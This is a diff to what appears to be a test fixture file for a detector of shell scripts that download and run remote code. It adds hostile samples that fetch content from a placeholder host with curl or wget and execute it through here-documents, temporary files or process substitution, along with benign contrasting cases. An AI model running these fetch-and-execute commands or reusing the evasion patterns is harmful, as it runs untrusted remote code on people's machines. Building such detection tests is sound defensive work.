@@ -18,6 +18,16 @@ HOSTILE: dict[str, dict[str, Sample]] = {
         "piped to standard input by its name": entered("curl -s https://a.invalid | source /dev/stdin\n"),
         "a here-string": entered('. /dev/stdin <<< "$(curl -s https://a.invalid)"\n'),
         "by a variable": entered('X=$(curl -s https://a.invalid)\necho "$X" | sh\n', line=2),
+        "filled into a here-document": entered(
+            'X=$(curl -s https://a.invalid)\n. /dev/stdin <<END\nset -a\n$X\nEND\n', line=2
+        ),
+        "filled into a here-document that is a file": entered(
+            'X=$(curl -s https://a.invalid)\ncat > a.sh <<END\n$X\nEND\nsh a.sh\n', line=5
+        ),
+        "printed into a file": entered('X=$(wget -qO- https://a.invalid)\nprintf "%s\\n" "$X" > a\n. ./a\n', line=3),
+        "printed where a file is read": entered(
+            "X=$(curl -s https://a.invalid)\nsource <(printf '%s' \"$X\")\n", line=2
+        ),
         "by a function": entered('ask() { curl -s "$1"; }\neval "$(ask https://a.invalid)"\n', line=2),
         "moved before it is run": entered("curl -s https://a.invalid -o /tmp/a\nmv /tmp/a /tmp/b\nsh /tmp/b\n", line=3),
         "unpacked before it is run": entered(
@@ -93,6 +103,9 @@ HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
         a_reply_is_read_by_fixed_code="curl -s https://a.invalid | node -p 'JSON.parse(read(0)).a'\n",
         a_reply_in_a_variable_is_searched='X=$(curl -s https://a.invalid)\necho "$X" | grep -q ok\n',
         a_reply_is_a_part_of_a_command='V=$(curl -s https://a.invalid)\nsh -c "echo $V"\n',
+        a_part_of_a_here_document='X=$(curl -s https://a.invalid)\nsh <<END\necho ${X%%,*}\nA=$X\nEND\n',
+        a_here_document_that_is_not_filled_in="X=$(curl -s https://a.invalid)\nsh <<'END'\n$X\nEND\n",
+        a_part_is_printed_into_a_file='X=$(curl -s https://a.invalid)\necho "A=$X" > a\n. ./a\n',
         a_function_asks="ask() { curl -s https://a.invalid; }\nask | jq .\n",
         unpacked_and_listed="curl -so a.zip https://a.invalid\nunzip -q a.zip -d a\nls a/b\n",
         cloned_and_left="git clone https://a.invalid/x\ncd x\ngit log\ncd ..\nmake\n",
